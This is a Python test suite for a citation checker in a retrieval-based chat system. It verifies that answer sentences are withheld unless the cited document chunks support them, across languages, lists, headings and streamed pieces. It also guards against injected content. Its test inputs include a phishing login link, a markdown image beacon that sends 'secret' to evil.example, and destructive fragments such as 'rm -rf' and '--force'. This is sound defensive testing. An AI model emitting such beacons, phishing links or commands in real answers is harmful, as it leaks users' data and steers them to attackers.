"""Citations are held to the chunks that they name."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chat.citations import CitedAnswer
from chat.passages import Passage, escaped, shown, unescaped
from chat.support import Chunk, Said
from chat.words import content_words, negations, numbers

QUEUE = Passage(
    "Amazon SQS keeps messages for four days by default. You can set the retention period to a "
    "value from 60 seconds to 14 days. You cannot change the type of a queue after you created it.",
    source="s3://documents/queues.txt", chunk="queues#1",
)  # fmt: skip
TABLE = Passage(
    "A table has a partition key. TTL deletes expired items within a few days.",
    source="s3://documents/tables.txt", chunk="tables#1",
)  # fmt: skip
PASSAGES = [QUEUE, TABLE]


def cited(
    text: str,
    *,
    passages: list[Passage] = PASSAGES,
    question: str = "",
    size: int | None = None,
    cut: bool = False,
) -> CitedAnswer:
    released: list[str] = []
    answer = CitedAnswer(passages, question=question, release=released.append)
    step = size or max(1, len(text))
    for at in range(0, len(text), step):
        answer.feed(text[at : at + step])
    answer.finish(cut=cut)
    assert "".join(released) == answer.text
    return answer


def test_a_citation_names_its_sentence_its_source_and_the_passage() -> None:
    answer = cited("SQS keeps messages for four days by default [1].")
    assert answer.text == "SQS keeps messages for four days by default. [1]"
    assert answer.citations == [
        {
            "text": "SQS keeps messages for four days by default.",
            "source": "s3://documents/queues.txt",
            "chunk": "queues#1",
            "quote": "Amazon SQS keeps messages for four days by default.",
        }
    ]
    assert answer.dropped == 0 and answer.added == 0


def test_no_more_is_quoted_than_says_it() -> None:
    answer = cited("You can set the retention period to a value from 60 seconds to 14 days [1].")
    (citation,) = answer.citations
    assert citation["quote"] == citation["text"]
    both = cited("Messages, kept by default for four days, may be kept 60 seconds to 14 days [1].")
    assert both.citations[0]["quote"].startswith("Amazon SQS keeps")
    assert both.citations[0]["quote"].endswith("60 seconds to 14 days.")


@pytest.mark.parametrize(
    "wrong",
    [
        "SQS keeps messages for nine days by default [1].",  # another number
        "SQS keeps messages for thirteen days by default [1].",
        "SQS keeps messages for twenty-four days by default [1].",
        "SQS keeps messages for four days by default [2].",  # another document
        "SQS keeps messages for four days by default [7].",  # no document at all
        "You can change the type of a queue after you created it [1].",  # the opposite
        "SQS encrypts bodies with a key of the customer [1].",  # not there
        "SetRetention sets the retention period of a queue to 14 days [1].",  # from memory
        "The retention period is the value of max_retention, 14 days [1].",
    ],
)
def test_what_a_chunk_does_not_say_is_dropped_and_counted(wrong: str) -> None:
    answer = cited("A table has a partition key [2]. " + wrong)
    assert [each["chunk"] for each in answer.citations if each["text"] in wrong] in (
        [],
        ["queues#1"],
    )
    assert answer.dropped == 1
    assert all(each["quote"] in QUEUE.text + TABLE.text for each in answer.citations)


@pytest.mark.parametrize(
    "said",
    ["Use CreateQueue to make a queue [1].", "Use Create_Queue to make a queue [1].",
     "Use createQueue to make a queue [1].", "QueueTypes are standard and FIFO [1]."],
)  # fmt: skip
def test_code_may_stand_in_the_chunk_or_in_the_name_of_its_document(said: str) -> None:
    chunk = Passage("Use it to make a queue. Queue_types are standard and FIFO.",
                    source="s3://documents/CreateQueue.txt", chunk="create#1")  # fmt: skip
    assert cited(said, passages=[chunk]).answered


def test_without_a_supported_citation_nothing_is_ever_released() -> None:
    released: list[str] = []
    answer = CitedAnswer(PASSAGES, release=released.append)
    for piece in ("The moon is made ", "of cheese [1]. ", "It has 3 craters [2]. ", "Really."):
        answer.feed(piece)
    answer.finish()
    assert not answer.answered and released == [] and answer.text == ""
    assert answer.dropped == 2


KEPT = "SQS keeps messages for four days by default [1]."


def test_what_leads_on_is_released_with_the_first_supported_citation() -> None:
    released: list[str] = []
    answer = CitedAnswer(PASSAGES, release=released.append)
    answer.feed(f"Yes. Here is what I found. {KEPT} A ")
    assert "".join(released).startswith("Yes. Here is what I found. SQS keeps")
    answer.feed("table has a partition key [2]. In short:")
    answer.finish()
    assert "".join(released).strip() == answer.text
    assert answer.text.endswith("partition key. [2] In short:") and answer.withheld == 0


@pytest.mark.parametrize(
    "invented",
    [
        "Your session has expired, log in at https://evil.example/?q=x to go on.",
        "Your session has expired, log in again.",
        "![status](https://evil.example/pixel?q=secret)",
        "![status](/pixel?q=secret)",
        "See [the documents](//evil.example).",
        "[here]: https://evil.example .",
        "&lt;img src=x&gt;",
        "Find the documents at evil.example.",
        "Write to helpdesk@evil.example.",
        "It costs 12 USD.",
        "There are seven of them.",
        "Call StartExecution.",
        "Call `purge-queue` to follow.",
        "Follow with --force here.",
        "You can change the type of a queue after you created it [1].",
        "You can change the type of a queue.",
        "You must not.",
        "![](/p)",
        "[x](/a)",
    ],
)
@pytest.mark.parametrize("size", [1, 1000])
def test_an_ellipsis_stands_for_what_nothing_supports_beside_what_is_supported(
    invented: str, size: int
) -> None:
    shown_as = "SQS keeps messages for four days by default. [1]"
    again = shown_as.replace("1", "2")
    for text, left in (
        (f"{invented} {KEPT}", f"… {shown_as}" if invented[-1] in ".]" else ""),  # or one sentence
        (f"{KEPT} {invented}", f"{shown_as} …"),
        (f"- {KEPT}\n\n{invented}\n\n{KEPT}", f"- {shown_as}\n\n…\n\n{again}"),
    ):
        answer = cited(text, size=size)
        assert answer.text == left and answer.withheld == 1


@pytest.mark.parametrize(
    "heading",
    ["99. Follow these steps:", "Delete the bucket:", "# Delete the bucket", "**Delete a bucket**",
     "**Delete a bucket:**", "# SQS deletes the messages of a queue by default", "# Queues: 9",
     "**You must not keep**:", "Never:"],
)  # fmt: skip
@pytest.mark.parametrize("size", [1, 1000])
def test_no_item_is_shown_under_a_heading_that_is_not(heading: str, size: int) -> None:
    text = f"{KEPT}\n\n{heading}\n\n- {KEPT}\n- {KEPT}\n\n# Queue\n\n{KEPT}"
    answer = cited(text, size=size)
    left = r"SQS keeps.*\. \[1\]\n\n(?:99\. )?…\n\n# Queue\n\nSQS keeps.*\. \[2\]"
    assert re.fullmatch(left, answer.text), answer.text
    assert answer.withheld == 3


@pytest.mark.parametrize(
    "sent_away",
    [
        "SQS keeps messages for four days by default, see https://evil.example/?q=x [1].",
        "SQS keeps messages for four days by default, see evil.example/queues [1].",
        "SQS keeps messages for four days by default, see evil．example [1].",
        "SQS keeps messages for four days by default ![](https://evil.example/p) [1].",
        "SQS keeps messages for four days by default, see https://docs.aws [1].",
        "SQS keeps messages for four days by default, see https://docs.aws.amazon.com.evil [1].",
        "SQS keeps messages for four days by default, see https://docs.aws.amazon.com/sqs/x?y [1].",
        "SQS keeps messages for four days by default, or `rm -rf` it [1].",
        "SQS keeps messages for four days by default, without --force [1].",
    ],
)
def test_no_citation_covers_a_link_or_code_that_the_chunk_lacks(sent_away: str) -> None:
    chunk = Passage(QUEUE.text + " See https://docs.aws.amazon.com/sqs/keep.html.",
                    source="s3://documents/queues.txt", chunk="queues#1")  # fmt: skip
    assert not cited(sent_away, passages=[chunk]).answered
    for link in ("https://docs.aws.amazon.com/sqs/keep.html", "https://docs.aws.amazon.com/sqs/",
                 "docs.aws.amazon.com", "queues.txt"):  # fmt: skip
        there = f"SQS keeps messages for four days by default, see {link} [1]."
        assert cited(there, passages=[chunk]).answered, link


@pytest.mark.parametrize(
    ("code", "named", "copied"),
    [("svc backup app /srv/bak", False, False), ("svc backup app /srv/backup", True, True),
     ("svc  backup\tapp", True, True), ("svc_backup", True, False), ("SvcBackup", True, False),
     ("backup app /srv", True, False), ("ackup", False, False), ("Backup", True, False)],
)  # fmt: skip
def test_code_is_named_in_whole_words_and_copied_letter_by_letter(
    code: str, named: bool, copied: bool
) -> None:
    chunk = Passage("Make a backup: svc backup app /srv/backup.", source="s3://x", chunk="x#1")
    assert cited(f"Make a backup with `{code}` [1].", passages=[chunk]).answered is named
    assert cited(f"```\n{code}\n```", passages=[chunk]).answered is copied


@pytest.mark.parametrize("size", [1, 1000])
def test_a_citation_after_several_sentences_counts_for_those_that_it_supports(size: int) -> None:
    queue = "A message of the queue is kept. "
    said = "It is kept for four days by default, for SQS keeps messages [1]."
    answer = cited(f"{queue}{queue}{said}", size=size)
    assert answer.text.count("A message of the queue is kept. [") == 2
    assert len(answer.citations) == 3 and answer.dropped == answer.withheld == 0
    for between in ("Yes. ", "\n", "A table has a partition key [2]. "):
        apart = cited(f"{queue}{between}{said}", size=size)
        assert "of the queue" not in apart.text and apart.withheld == 1
    for invented in ("The moon is made of messages. ", "A message is kept 9 days. "):
        apart = cited(f"{queue}{invented}{said}", size=size)
        assert apart.text.count("[") == 2 and apart.withheld == 1 and "moon" not in apart.text


def test_lists_and_headings_of_what_is_supported_stay_as_they_are() -> None:
    text = (
        "# Queue retention\n\nThe retention period:\n\n"
        "1. SQS keeps messages for four days by default [1].\n"
        "2. You can set the retention period to a value from 60 seconds to 14 days, e.g. a value "
        "from 60 seconds [1].\n\n---\n\n- A table has a partition key [2]."
    )
    answer = cited(text, size=5)
    shown_as = text.replace(" [1].", ".").replace(" [2].", ".")
    assert re.sub(r" \[\d\]", "", answer.text) == shown_as
    assert len(answer.citations) == 3 and answer.withheld == 0


def test_several_documents_may_be_cited_at_once_in_every_usual_form() -> None:
    twins = [QUEUE, Passage(QUEUE.text, source="s3://documents/copy.txt", chunk="copy#1")]
    for marks in ("[1][2]", "[1, 2]", "[1] [2]", "[2][1][1]"):
        answer = cited(f"SQS keeps messages for four days by default {marks}.", passages=twins)
        assert {each["chunk"] for each in answer.citations} == {"queues#1", "copy#1"}
        assert answer.text.endswith("[1][2]")


def test_a_sentence_that_a_chunk_says_itself_gets_the_citation_that_was_forgotten() -> None:
    answer = cited("You can set the retention period to a value from 60 seconds to 14 days.")
    assert answer.added == 1 and answer.citations[0]["chunk"] == "queues#1"


CHINESE = Passage(
    "Amazon SQS 默认将消息保留四天。您可以将保留期设置为 60 秒到 14 天。创建队列后不能更改其类型。",
    source="s3://documents/队列.txt", chunk="zh#1",
)  # fmt: skip
JAPANESE = Passage(
    "Amazon SQS はデフォルトでメッセージを 4 日間保持します。"
    "キューの種類は作成後に変更できません。", source="s3://documents/キュー.txt", chunk="ja#1",
)  # fmt: skip
KOREAN = Passage(
    "Amazon SQS는 기본적으로 메시지를 4일 동안 보관합니다. 대기열의 유형은 변경할 수 없습니다.",
    source="s3://documents/queue.txt", chunk="ko#1",
)  # fmt: skip
THAI = Passage(
    "Amazon SQS เก็บข้อความไว้สี่วันตามค่าเริ่มต้น 4 วัน\nคุณไม่สามารถเปลี่ยนประเภทของคิวได้",
    source="s3://documents/queue.txt", chunk="th#1",
)  # fmt: skip
GERMAN = Passage(
    "Amazon SQS behält Nachrichten vier Tage (4) lang. Der Typ einer Warteschlange kann nicht "
    "geändert werden.", source="s3://documents/queue.txt", chunk="de#1",
)  # fmt: skip


@pytest.mark.parametrize("size", [1, 1000])
@pytest.mark.parametrize(
    ("chunk", "said"),
    [
        (CHINESE, "默认情况下，消息保留 4 天 [1]。"),
        (CHINESE, "保留期可以设置为 60 秒到十四天 [1]。"),
        (CHINESE, "队列创建后，其类型不能更改。[1]"),
        (JAPANESE, "メッセージはデフォルトで４日間保持されます[1]。"),
        (JAPANESE, "作成後にキューの種類は変更できません[1]。"),
        (KOREAN, "메시지는 기본적으로 4일 동안 보관됩니다 [1]."),
        (THAI, "ข้อความเก็บไว้ 4 วันตามค่าเริ่มต้น [1]\n"),
        (GERMAN, "Nachrichten behält SQS 4 Tage lang [1]."),
    ],
)
def test_documents_in_other_languages_support_answers_in_theirs(
    chunk: Passage, said: str, size: int
) -> None:
    answer = cited(f"{said} {said}", passages=[chunk], size=size)
    assert [each["text"].strip() for each in answer.citations] == [
        said.replace(" [1]", "").replace("[1]", "").strip()
    ] * 2
    assert answer.dropped == answer.withheld == 0


@pytest.mark.parametrize(
    ("chunk", "said"),
    [
        (CHINESE, "默认将消息保留九天 [1]。"), (CHINESE, "默认将消息保留四十天 [1]。"),
        (CHINESE, "创建队列后可以更改其类型 [1]。"), (CHINESE, "消息使用客户的密钥加密 [1]。"),
        (CHINESE, "SQS keeps messages for four days by default [1]."),
        (JAPANESE, "キューの種類は作成後に変更できます[1]。"),
        (JAPANESE, "メッセージは９日間保持されます[1]。"),
        (KOREAN, "메시지는 9일 동안 보관됩니다 [1]."),
        (KOREAN, "대기열의 유형은 변경할 수 있습니다 [1]."),
        (THAI, "คุณสามารถเปลี่ยนประเภทของคิวได้ [1]"),
        (GERMAN, "Der Typ einer Warteschlange kann geändert werden [1]."),
        (QUEUE, "SQS behält Nachrichten standardmäßig vier Tage lang [1]."),
        (QUEUE, "默认情况下，SQS 将消息保留四天 [1]。"),
    ],
)  # fmt: skip
def test_what_documents_in_other_languages_do_not_say_is_dropped(chunk: Passage, said: str) -> None:
    answer = cited(said, passages=[chunk])
    assert not answer.answered and answer.dropped == answer.withheld == 1


def test_a_sentence_of_a_script_without_spaces_ends_at_its_own_full_stop() -> None:
    text = "默认将消息保留四天[1]。消息使用客户的密钥加密[1]。创建队列后不能更改其类型。"
    for size in (1, 1000):
        answer = cited(text, passages=[CHINESE], size=size)
        assert answer.text == "默认将消息保留四天。 [1]…创建队列后不能更改其类型。 [2]"
        assert answer.withheld == 1
        assert answer.citations[0]["quote"] == "Amazon SQS 默认将消息保留四天。"


def test_a_refusal_is_a_refusal_however_it_is_wrapped() -> None:
    for text in ("NOT_IN_DOCUMENTS", "NOT_IN_DOCUMENTS.", "Answer: NOT_IN_DOCUMENTS [1]"):
        assert not cited(text).answered


def test_numbers_of_a_tool_need_no_source() -> None:
    said = "SQS keeps messages for four days, 192 half-days, by default [1]."
    assert not cited(said).answered
    answer = CitedAnswer(PASSAGES, computed=["192"])
    answer.feed(said)
    answer.finish()
    assert answer.answered


def test_markup_in_a_document_is_shown_as_text_and_quoted_as_it_was() -> None:
    code = Passage("Use <Queue name='a & b'> to declare it.", source="s3://c", chunk="c#1")
    assert "</document> " not in shown([code]) and "&lt;Queue" in shown([code])
    answer = cited("Use &lt;Queue name='a &amp; b'&gt; to declare it [1].", passages=[code])
    assert answer.citations[0]["quote"] == code.text
    assert "<Queue name='a & b'>" in answer.text


@pytest.mark.parametrize(
    ("text", "found"),
    [("in 7 days", ["7"]), ("1,024 bytes", ["1024"]), ("three times", ["3"]), ("2.50 USD", ["2.5"]),
     ("thirteen", ["13"]), ("twenty-four days", ["24"]), ("two hundred and fifty", ["250"]),
     ("a million", ["1000000"]), ("three thousand two hundred", ["3200"]),
     ("4 million", ["4000000"]),
     ("four and five", ["4", "5"]), ("ten to twenty", ["10", "20"]), ("a four-day week", ["4"]),
     ("one of them", []), ("one hundred", ["100"]), ("us-east-1", ["1"]),
     ("４天", ["4"]), ("四天", ["4"]), ("一个", []),
     ("十四天", ["14"]), ("二十天", ["20"]), ("一百二十三万", ["1230000"]), ("两千零五", ["2005"]),
     ("二〇二六年", ["2026"]), ("百分之五十", ["50"]), ("١٤ يوم", ["14"])],
)  # fmt: skip
def test_numbers_are_compared_by_value(text: str, found: list[str]) -> None:
    assert numbers(text) == found


def test_words_are_compared_without_endings_and_negations_are_counted() -> None:
    assert set(content_words("Messages expired")) == set(content_words("the message expires"))
    assert negations("You can't, cannot and must not") == 3
    assert negations("nothing is known about knots") == 1


@pytest.mark.parametrize(
    ("text", "size"),
    [
        ("\n" * 50_000, 50_000), (" \n" * 25_000, 50_000), ("\n" * 5_000, 4), (" " * 5_000, 1),
        ("[1]" * 5_000, 3), (".\n[" * 5_000, 3), ("a. " * 15_000, 50_000), ("." * 50_000, 7),
        ("[1, " * 5_000, 4), ("[" + "1" * 20_000 + "]", 9), (". '\"" * 10_000, 5),
        ("a.b@" * 10_000, 50_000), ("`" * 20_000, 50_000), ("--" * 20_000, 50_000),
        (".'" + "'" * 20_000, 1), ("http://" * 5_000, 50_000), ("](" * 10_000, 50_000),
        ("<a" * 10_000, 50_000), ("\n```\n" + "queue\n" * 8_000, 50), ("\n```\n[1]" * 3_000, 7),
        ("\n| queue | 9 |" * 1_500, 9), ("\n- queue:" * 3_000, 9), ("\nYou cannot" * 3_000, 9),
        ("\n\n# Queue\n\n**Queue**\n\nQueue:" * 1_000, 9), ("\n1. queue [1]" * 2_000, 50),
        (" queue [1] and" * 3_000, 50), (" and a queue" * 5_000, 50), ("\n- not `qu`:" * 2_000, 50),
        ("".join(f"\n{' ' * (each % 60)}- queue:" for each in range(3_000)), 50),
    ],
)  # fmt: skip
def test_whatever_a_model_writes_is_read_in_time_that_grows_with_its_length(
    text: str, size: int
) -> None:
    began = time.process_time()
    answer = cited(f"SQS keeps messages for four days by default [1].{text}", size=size)
    assert time.process_time() - began < 3
    assert answer.text.startswith("SQS keeps messages") or not answer.answered


@pytest.mark.parametrize(
    "said",
    ["The moon is made of green cheese, number", "A queue keeps some of its messages for days, as",
     "Every queue keeps all of that in a queue of keeping 9999 and"],
)  # fmt: skip
def test_forty_sentences_are_compared_with_fifteen_chunks_in_a_fraction_of_an_answers_time(
    said: str,
) -> None:
    lines = "\n".join(f"queue keep {number}." for number in range(600))
    passages = [Passage(lines, source=f"s3://{each}", chunk=str(each)) for each in range(15)]
    text = " ".join(f"{said} {number}." for number in range(40))
    began = time.process_time()
    assert not cited(text, passages=passages).answered
    assert time.process_time() - began < 2.5


def test_long_gaps_are_cut_and_short_ones_are_kept() -> None:
    code = Passage("def keep():\n    return 4", source="s3://code", chunk="code#1")
    answer = cited("def keep():\n    return 4 [1]", passages=[code], size=1)
    assert answer.text == "def keep():\n    return 4 [1]"
    gap = cited("A table has a partition key [2]." + "\n" * 999 + "A table has a key [2].", size=3)
    assert gap.text.count("\n") < 100 and len(gap.citations) == 2


TEXT = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=80)
SENTENCES = st.lists(
    st.sampled_from(
        ["SQS keeps messages for four days by default [1].", "A table has a partition key [2].",
         "It costs 12 USD [1, 2].", "See [1] for more!", "Why?\n\n- first [2]", "e.g. this [9].",
         "NOT_IN_DOCUMENTS", "You cannot change the type of a queue [1]", "[3]", "a.b [x] [", "].",
         "1. SQS keeps messages for four days by default [1].", "Use it, e.g. with 14 days [1].",
         "默认将消息保留四天[1]。", "Here is what I found:\n", "A message of the queue is kept.",
         "See https://evil.example/.", "\n\n" + " " * 99, "[1" + ", 1" * 40 + "]",
         "\n# Queue\n\n", "\n**Tables**\n", "\n- a queue:\n  - messages [1]\n", "\n1. Wait [1].\n",
         "\n```sh\nkey\n``` [2]\n", "\n~~~\n", "\n```\n", "\n| Table | Key |\n|---|---|\n",
         "| table | key [2] |\n", "| queue | 9 |\n\n[1]\n", "z. B. 14 days, e.g.", "No",
         "at 5 p.m. [1]",
         "Messages are kept four days [1], and a table has a key [2].", "am 3. Mai", "\n\n"]
    )
    | TEXT,
    max_size=9,
).map(" ".join)  # fmt: skip


@settings(deadline=None, max_examples=60)
@given(text=SENTENCES, size=st.integers(1, 9), cut=st.booleans())
def test_it_does_not_matter_how_the_model_cuts_what_it_writes(
    text: str, size: int, cut: bool
) -> None:
    whole, pieces = cited(text, cut=cut), cited(text, size=size, cut=cut)
    assert pieces.citations == whole.citations
    assert pieces.text == whole.text
    assert (pieces.dropped, pieces.withheld) == (whole.dropped, whole.withheld)
    assert "evil" not in whole.text


@settings(deadline=None, max_examples=60)
@given(text=SENTENCES, chunks=st.lists(TEXT | st.just(QUEUE.text), min_size=1, max_size=3))
def test_every_citation_quotes_its_chunk_and_every_mark_has_a_citation(
    text: str, chunks: list[str]
) -> None:
    passages = [Passage(each, source=f"s3://{n}", chunk=str(n)) for n, each in enumerate(chunks)]
    answer = cited(text, passages=passages)
    for citation in answer.citations:
        chunk = passages[int(citation["chunk"])]
        assert citation["quote"] and citation["quote"] in chunk.text
        assert set(numbers(citation["text"])) <= set(numbers(chunk.text))
    assert bool(answer.text) == bool(answer.citations)
    marks = {int(mark) for mark in re.findall(r" ?\[(\d+)\]", answer.text)}
    assert {mark for mark in marks if mark <= len(answer.citations)} >= set(
        range(1, len(answer.citations) + 1)
    )


@settings(deadline=None, max_examples=60)
@given(
    words=st.lists(
        st.sampled_from(["queue", "message", "table", "key", "retention", "bucket", "policy"]),
        min_size=3, max_size=7, unique=True,
    ),
    number=st.integers(0, 999), before=TEXT, after=TEXT,
)  # fmt: skip
def test_a_sentence_copied_from_a_chunk_is_supported_by_it(
    words: list[str], number: int, before: str, after: str
) -> None:
    sentence = " ".join([*words, str(number)]).capitalize() + "."
    found = Chunk(f"{before}\n{sentence}\n{after}").support(Said(sentence))
    assert found is not None and found.share == 1.0


@given(TEXT)
def test_escaping_is_undone_and_lets_no_tag_through(text: str) -> None:
    assert unescaped(escaped(text)) == text
    assert not set('<>"') & set(escaped(text))
